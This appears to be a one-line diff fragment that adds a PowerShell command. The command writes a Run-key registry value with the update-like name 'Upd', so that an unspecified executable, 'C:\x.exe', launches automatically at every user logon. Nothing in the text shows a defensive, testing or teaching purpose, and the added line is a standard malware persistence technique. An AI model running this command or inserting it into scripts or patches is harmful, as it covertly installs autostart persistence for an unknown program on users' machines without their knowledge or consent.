@@ -1,0 +1,1 @@
+New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name Upd -Value 'C:\x.exe' -PropertyType String
